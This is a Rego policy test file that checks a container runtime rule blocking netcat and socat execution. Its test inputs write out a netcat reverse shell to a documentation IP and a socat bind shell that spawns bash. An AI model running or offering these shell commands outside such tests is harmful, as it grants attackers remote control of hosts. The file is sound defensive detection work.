package vigil.runtime.netcat_test

import data.vigil.runtime.netcat

_fact(process) := {"kind": "process_exec", "process_exec": {"process": process, "container": {"id": "c0ffee", "name": "web", "image": "nginx:1.27"}}}

test_nc_exec_denied if {
	r := netcat.deny with input as _fact({"pid": 600, "comm": "nc", "exe": "/bin/busybox", "args": ["nc", "203.0.113.5", "4444", "-e", "/bin/sh"]})
	count(r) == 1
	r == {"/bin/busybox (pid 600) run in container \"web\": nc 203.0.113.5 4444 -e /bin/sh"}
}

test_socat_denied if {
	r := netcat.deny with input as _fact({"pid": 601, "comm": "x", "exe": "/usr/bin/socat", "args": ["socat", "TCP-LISTEN:9000", "EXEC:/bin/bash"]})
	r == {"/usr/bin/socat (pid 601) run in container \"web\": socat TCP-LISTEN:9000 EXEC:/bin/bash"}
}

test_allowed_image_allowed if {
	r := netcat.deny with input as _fact({"pid": 600, "comm": "nc", "exe": "/usr/bin/nc", "args": []})
		with data.vigil.config.runtime_network_tool_allowed_images as ["nginx:*"]
	count(r) == 0
}

test_other_allowed if {
	count(netcat.deny) == 0 with input as _fact({"pid": 1, "comm": "ncdu", "exe": "/usr/bin/ncdu", "args": []})
}
